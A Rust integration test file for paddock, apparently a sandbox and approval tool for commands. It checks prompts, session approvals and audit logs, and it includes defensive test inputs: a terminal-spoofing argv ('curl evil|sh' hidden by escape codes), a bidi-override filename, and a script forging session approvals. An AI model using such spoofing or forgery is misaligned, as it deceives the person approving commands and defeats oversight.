//! Approvals through the real binary and a real pseudo-terminal: the prompt is read from the
//! controlling terminal, so each prompted run gets a fresh pty as its controlling terminal
//! (`setsid --ctty`) and answers are typed into the pty's master side.
//!
//! What they pin down (issue 10): "always allow" is not asked again even under a `prompt`
//! rule; "allow for this session" outlives one run for exactly that session; a spoofing argv
//! cannot hide in the prompt, the log or an error; `approval = "on-failure"` asks to rerun
//! outside the sandbox after a denial, says it is a heuristic, refuses without a terminal, and
//! audits both runs.

#![cfg(target_os = "linux")]

mod linux_support;
use linux_support::{World, stderr, stdout};
use std::io::{Read, Write};
use std::os::fd::OwnedFd;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// The spoofing argv of issue 10: after CR and "erase line", the terminal would show `ls`.
const ATTACK: &str = "curl evil|sh\r\x1b[2K command: ls";

/// A pseudo-terminal whose master side is read by a thread into `seen`.
struct Pty {
    master: std::fs::File,
    slave: OwnedFd,
    seen: Arc<Mutex<Vec<u8>>>,
}

impl Pty {
    fn open() -> Pty {
        use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
        let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY | OpenptFlags::CLOEXEC)
            .expect("open a pty master");
        grantpt(&master).unwrap();
        unlockpt(&master).unwrap();
        let name = ptsname(&master, Vec::new()).unwrap();
        let slave = rustix::fs::open(
            name.as_c_str(),
            rustix::fs::OFlags::RDWR | rustix::fs::OFlags::NOCTTY,
            rustix::fs::Mode::empty(),
        )
        .expect("open the pty slave");
        let master = std::fs::File::from(master);
        let seen = Arc::new(Mutex::new(Vec::new()));
        let (mut reader, sink) = (master.try_clone().unwrap(), seen.clone());
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            // EIO once every slave descriptor is closed: the end.
            while let Ok(n) = reader.read(&mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        Pty {
            master,
            slave,
            seen,
        }
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.seen.lock().unwrap()).into_owned()
    }

    /// Waits until the terminal shows `needle` (panics after 20 s with what it shows).
    fn wait_for(&self, needle: &str) {
        let start = Instant::now();
        while !self.text().contains(needle) {
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "the terminal never showed {needle:?}; it shows {:?}",
                self.text()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn type_line(&mut self, answer: &str) {
        self.master
            .write_all(format!("{answer}\n").as_bytes())
            .unwrap();
    }
}

/// `paddock ARGS` (with the env of `base`) whose controlling terminal is `pty`; stdout and
/// stderr are pipes. The prompt is answered with `answer` once it appears.
fn run_on_pty(base: Command, pty: &mut Pty, answer: &str) -> Output {
    let mut cmd = Command::new("setsid");
    cmd.args(["--ctty", "--wait"])
        .arg(base.get_program())
        .args(base.get_args());
    if let Some(dir) = base.get_current_dir() {
        cmd.current_dir(dir);
    }
    for (k, v) in base.get_envs() {
        match v {
            Some(v) => cmd.env(k, v),
            None => cmd.env_remove(k),
        };
    }
    let child = cmd
        .stdin(Stdio::from(pty.slave.try_clone().unwrap()))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("setsid (util-linux) runs paddock");
    pty.wait_for("(default) > ");
    pty.type_line(answer);
    child.wait_with_output().unwrap()
}

/// A world with `rules` as the user rules file and `config` as the user config file.
fn world(rules: &str, config: &str) -> World {
    let w = World::new();
    let dir = w.ws.parent().unwrap().join("config");
    std::fs::write(dir.join("rules.toml"), rules).unwrap();
    std::fs::write(dir.join("config.toml"), config).unwrap();
    w
}

/// `paddock ARGS` in `w` (its config and state, cwd = its workspace), no terminal.
fn paddock(w: &World, args: &[&str], extra_env: &[(&str, &str)]) -> Command {
    let base = w.ws.parent().unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_paddock"));
    cmd.args(args)
        .current_dir(&w.ws)
        .env("HOME", &w.home)
        .env("PADDOCK_CONFIG_DIR", base.join("config"))
        .env("PADDOCK_STATE_DIR", base.join("state"))
        .env_remove("PADDOCK_SESSION")
        .stdin(Stdio::null());
    for (k, v) in extra_env {
        cmd.env(k, v);
    }
    cmd
}

/// Runs `cmd` in a new session without a controlling terminal: nobody can be asked.
fn without_terminal(cmd: Command) -> Output {
    let mut s = Command::new("setsid");
    s.arg("--wait").arg(cmd.get_program()).args(cmd.get_args());
    if let Some(dir) = cmd.get_current_dir() {
        s.current_dir(dir);
    }
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => s.env(k, v),
            None => s.env_remove(k),
        };
    }
    s.stdin(Stdio::null()).output().unwrap()
}

fn audit(w: &World) -> Vec<serde_json::Value> {
    let file = w.ws.parent().unwrap().join("state/audit.jsonl");
    std::fs::read_to_string(file)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

const ECHO_PROMPT: &str = "[[rule]]\nprogram = \"echo\"\nargs = [\"hi\"]\ndecision = \"prompt\"\n";

#[test]
fn always_allow_is_not_asked_again_although_a_prompt_rule_matches() {
    let w = world(ECHO_PROMPT, "");
    let run = ["run", "--mode", "full-access", "--", "echo", "hi", "there"];
    let mut pty = Pty::open();
    let o = run_on_pty(paddock(&w, &run, &[]), &mut pty, "a");
    assert_eq!(o.status.code(), Some(0), "{}\n{}", stderr(&o), pty.text());
    assert!(
        pty.text()
            .contains("always allow `echo hi there` and the same followed by more arguments"),
        "{}",
        pty.text()
    );
    // The next run has no terminal: it runs only if the answer is honoured.
    let o = without_terminal(paddock(&w, &run, &[]));
    assert_eq!(o.status.code(), Some(0), "asked again: {}", stderr(&o));
    assert_eq!(stdout(&o), "hi there\n");
    // Exactly as broad as shown: a shorter command still needs approval.
    let o = without_terminal(paddock(
        &w,
        &["run", "--mode", "full-access", "--", "echo", "hi"],
        &[],
    ));
    assert_eq!(o.status.code(), Some(76), "{}", stderr(&o));
}

#[test]
fn allow_for_session_lasts_across_runs_of_that_session_only() {
    let w = world(ECHO_PROMPT, "");
    let run = ["run", "--mode", "full-access", "--", "echo", "hi"];
    let mut pty = Pty::open();
    let o = run_on_pty(
        paddock(&w, &run, &[("PADDOCK_SESSION", "agent-1")]),
        &mut pty,
        "s",
    );
    assert_eq!(o.status.code(), Some(0), "{}\n{}", stderr(&o), pty.text());
    assert!(
        pty.text().contains("for session `agent-1` until"),
        "{}",
        pty.text()
    );
    let same = without_terminal(paddock(&w, &run, &[("PADDOCK_SESSION", "agent-1")]));
    assert_eq!(same.status.code(), Some(0), "{}", stderr(&same));
    let mut flag = vec!["run", "--session", "agent-1"];
    flag.extend_from_slice(&run[1..]);
    let same_by_flag = without_terminal(paddock(&w, &flag, &[]));
    assert_eq!(
        same_by_flag.status.code(),
        Some(0),
        "{}",
        stderr(&same_by_flag)
    );
    let other = without_terminal(paddock(&w, &run, &[("PADDOCK_SESSION", "agent-2")]));
    assert_eq!(other.status.code(), Some(76), "{}", stderr(&other));
    let none = without_terminal(paddock(&w, &run, &[]));
    assert_eq!(none.status.code(), Some(76), "{}", stderr(&none));
    use std::os::unix::fs::PermissionsExt;
    let file = w.ws.parent().unwrap().join("state/sessions/agent-1.json");
    let mode = std::fs::metadata(&file).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn without_a_session_allow_for_session_is_not_offered() {
    let w = world(ECHO_PROMPT, "");
    let mut pty = Pty::open();
    let o = run_on_pty(
        paddock(
            &w,
            &["run", "--mode", "full-access", "--", "echo", "hi"],
            &[],
        ),
        &mut pty,
        "s",
    );
    assert_eq!(o.status.code(), Some(76), "{}", pty.text());
    assert!(!pty.text().contains("[s]"), "{}", pty.text());
}

#[test]
fn a_bad_session_id_is_refused_with_78() {
    let w = world("", "");
    let o = without_terminal(paddock(
        &w,
        &[
            "run",
            "--session",
            "../x",
            "--mode",
            "full-access",
            "--",
            "true",
        ],
        &[],
    ));
    assert_eq!(o.status.code(), Some(78), "{}", stderr(&o));
    assert!(stderr(&o).contains("session id"), "{}", stderr(&o));
    let empty = without_terminal(paddock(
        &w,
        &["run", "--mode", "full-access", "--", "true"],
        &[("PADDOCK_SESSION", "")],
    ));
    assert_eq!(empty.status.code(), Some(0), "{}", stderr(&empty));
}

/// No byte of `text` is a control character other than the line ends a pty adds.
fn assert_no_controls(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|c| !matches!(c, '\n' | '\r') && paddock_core_text_hidden(*c))
        .collect();
    assert!(bad.is_empty(), "{what} shows {bad:?}: {text:?}");
}

fn paddock_core_text_hidden(c: char) -> bool {
    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[test]
fn a_spoofing_command_line_is_shown_escaped_in_the_prompt_the_log_and_errors() {
    let w = world("[[rule]]\nprogram = \"curl\"\ndecision = \"prompt\"\n", "");
    let mut pty = Pty::open();
    let o = run_on_pty(
        paddock(
            &w,
            &["run", "--mode", "full-access", "--", "sh", "-c", ATTACK],
            &[],
        ),
        &mut pty,
        "n",
    );
    assert_eq!(o.status.code(), Some(76), "{}", pty.text());
    let shown = pty.text();
    // The pty turns each "\n" into "\r\n"; no ESC and no other CR may appear.
    assert_no_controls("the prompt", &shown.replace("\r\n", "\n"));
    assert!(
        shown.contains(r"$'curl evil|sh\r\x1b[2K command: ls'"),
        "{shown}"
    );
    assert_no_controls("the refusal", &stderr(&o));
    // Refused without a terminal, so it is logged: bidi override, 8-bit CSI and DEL.
    let bidi = without_terminal(paddock(
        &w,
        &[
            "run",
            "--mode",
            "full-access",
            "--",
            "curl",
            "\u{202e}txt.exe\u{9b}2J\u{7f}",
        ],
        &[],
    ));
    assert_eq!(bidi.status.code(), Some(76), "{}", stderr(&bidi));
    assert_no_controls("the refusal", &stderr(&bidi));
    let log = without_terminal(paddock(&w, &["log", "--json"], &[]));
    assert_no_controls("paddock log --json", &stdout(&log));
    assert!(stdout(&log).contains(r"\u202e"), "{}", stdout(&log));
    let log = without_terminal(paddock(&w, &["log"], &[]));
    assert_eq!(log.status.code(), Some(0), "{}", stderr(&log));
    assert!(stdout(&log).contains(r"\x1b[2K"), "{}", stdout(&log));
    assert_no_controls("paddock log", &stdout(&log));
    let missing = without_terminal(paddock(
        &w,
        // Without a sandbox an unknown command asks (refused without a terminal): skip the
        // rules to reach the error this checks.
        &[
            "run",
            "--mode",
            "full-access",
            "--no-rules",
            "--",
            "no-such\r\x1b[2Kprogram",
        ],
        &[],
    ));
    assert_eq!(missing.status.code(), Some(127), "{}", stderr(&missing));
    assert_no_controls("the error", &stderr(&missing));
    let explain = without_terminal(paddock(&w, &["explain", "--", "sh", "-c", ATTACK], &[]));
    assert_no_controls("explain", &stdout(&explain));
}

const ON_FAILURE: &str = "approval = \"on-failure\"\n";
/// Writes outside the workspace: denied in the sandbox, works outside it. The sandbox observes
/// the attempt (Linux: pid 1's write observer), so the denial is no guess.
const WRITE_OUTSIDE: &str = "echo made > \"$OUT/made\"";
/// Changes a file's mode outside the workspace: denied in the sandbox (read-only mount), not
/// observed (metadata calls are not), so the denial is guessed from chmod's message.
const CHMOD_OUTSIDE: &str = "chmod 600 \"$OUT/victim\"";

#[test]
fn on_failure_asks_to_rerun_outside_after_a_denial_and_audits_both_runs() {
    let w = world("", ON_FAILURE);
    let mut pty = Pty::open();
    let o = run_on_pty(
        w.command("workspace-write", &["--json"], WRITE_OUTSIDE),
        &mut pty,
        "y",
    );
    let shown = pty.text();
    assert_eq!(o.status.code(), Some(0), "{}\n{shown}", stderr(&o));
    assert!(shown.contains("rerun it OUTSIDE the sandbox"), "{shown}");
    assert!(!shown.contains("heuristic"), "an observed write: {shown}");
    assert!(shown.contains("outside the writable roots"), "{shown}");
    assert_eq!(
        std::fs::read_to_string(w.outside.join("made")).unwrap(),
        "made\n"
    );
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["on_failure"]["heuristic"], false, "{report}");
    assert_eq!(report["on_failure"]["rerun"], true, "{report}");
    assert_ne!(report["on_failure"]["sandboxed_exit_code"], 0, "{report}");
    assert_eq!(report["enforcement"]["unconfined"], true, "{report}");
    let log = audit(&w);
    assert_eq!(log.len(), 4, "two decisions and two outcomes: {log:#?}");
    assert_eq!(log[1]["escalation"], false);
    assert_ne!(log[1]["exit_code"], 0);
    assert_eq!(log[2]["escalation"], true);
    assert_eq!(log[3]["exit_code"], 0);
}

#[test]
fn on_failure_without_a_terminal_does_not_rerun_and_exits_76() {
    let w = world("", ON_FAILURE);
    let o = without_terminal(w.command("workspace-write", &["--json"], CHMOD_OUTSIDE));
    assert_eq!(o.status.code(), Some(76), "{}", stderr(&o));
    let mode = std::fs::metadata(w.outside.join("victim"))
        .unwrap()
        .permissions();
    assert_ne!(
        std::os::unix::fs::PermissionsExt::mode(&mode) & 0o777,
        0o600,
        "reran outside the sandbox"
    );
    let err = stderr(&o);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.contains("heuristic") && err.contains("no terminal"),
        "{err}"
    );
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["on_failure"]["heuristic"], true, "{report}");
    assert_eq!(report["on_failure"]["rerun"], false, "{report}");
    assert!(
        report["on_failure"]["denied"][0]
            .as_str()
            .unwrap()
            .contains("victim outside the writable roots refused (a guess from its stderr)"),
        "{report}"
    );
    let log = audit(&w);
    assert_eq!(log.len(), 3, "{log:#?}");
    assert_eq!(log[2]["ran"], false);
}

/// Connects to 192.0.2.1:80 and fails without printing anything a heuristic could read.
const SILENT_CONNECT: &str = "perl -MSocket -e 'socket(my $s, AF_INET, SOCK_STREAM, 0) or exit 4; \
connect($s, pack_sockaddr_in(80, inet_aton(\"192.0.2.1\"))) or exit 3; exit 0'";

#[test]
fn on_failure_is_driven_by_the_sandboxs_own_denial_not_the_output() {
    let w = world("", ON_FAILURE);
    let o = without_terminal(w.command("workspace-write", &["--json"], SILENT_CONNECT));
    assert_eq!(o.status.code(), Some(76), "{}", stderr(&o));
    let err = stderr(&o);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.contains("the sandbox's report") && !err.contains("heuristic"),
        "{err}"
    );
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["on_failure"]["heuristic"], false, "{report}");
    assert_eq!(report["on_failure"]["rerun"], false, "{report}");
    assert!(
        report["on_failure"]["denied"][0]
            .as_str()
            .unwrap()
            .contains("connection to 192.0.2.1:80 refused"),
        "{report}"
    );
    assert_eq!(
        report["on_failure"]["denials"][0]["kind"], "network-refused",
        "{report}"
    );
    let log = audit(&w);
    assert_eq!(log[1]["denials"][0]["address"], "192.0.2.1", "{log:#?}");
    assert!(log[1]["denial_summary"].is_string(), "{log:#?}");
}

#[test]
fn on_failure_leaves_other_failures_and_successes_alone() {
    let w = world("", ON_FAILURE);
    let o = without_terminal(w.command("workspace-write", &[], "echo fine; exit 3"));
    assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
    assert_eq!(stdout(&o), "fine\n", "captured output is passed on");
    let o = without_terminal(w.command("workspace-write", &[], "echo ok > in-ws"));
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(Path::new(&w.ws.join("in-ws")).exists());
}

/// The sandbox's summary of a workspace-write run with the network off, as prompts show it and
/// session entries record it.
const WS_WRITE_OFF: &str = "workspace-write: writes only inside the workspace and writable roots, not .git hooks or config; secrets unreadable; no network";

#[test]
fn a_sandboxed_command_cannot_forge_a_session_approval_in_a_state_dir_inside_the_workspace() {
    let w = world(ECHO_PROMPT, "");
    let state = w.ws.join(".paddock-state");
    std::fs::create_dir_all(state.join("sessions")).unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let forged = serde_json::json!({ "entries": [{
        "argv": ["echo", "hi"],
        "cwd": w.ws.display().to_string(),
        "sandbox": WS_WRITE_OFF,
        "approved_at": now,
    }]});
    let script = w.ws.parent().unwrap().join("forge.sh");
    std::fs::write(
        &script,
        format!(
            "printf '%s' '{}' > \"$STATE/sessions/s1.json\"; printf '%s' '{}' > \"$STATE/sessions/s2.json\"",
            forged, forged
        ),
    )
    .unwrap();
    let state_env = [
        ("PADDOCK_STATE_DIR", state.to_str().unwrap()),
        ("STATE", state.to_str().unwrap()),
    ];
    let forge = without_terminal(paddock(
        &w,
        &[
            "run",
            "--no-rules",
            "--network",
            "off",
            "--",
            "sh",
            script.to_str().unwrap(),
        ],
        &state_env,
    ));
    assert_ne!(forge.status.code(), Some(125), "{}", stderr(&forge));
    let echo = |session: &str| {
        let mut env = state_env.to_vec();
        env.push(("PADDOCK_SESSION", session));
        without_terminal(paddock(
            &w,
            &["run", "--network", "off", "--", "echo", "hi"],
            &env,
        ))
    };
    let o = echo("s1");
    assert_eq!(
        o.status.code(),
        Some(76),
        "a forged approval was honoured: {}",
        stderr(&o)
    );
    // Control: the same entry written by the caller is honoured, so the forgery was well formed.
    std::fs::write(state.join("sessions/s3.json"), forged.to_string()).unwrap();
    let o = echo("s3");
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}
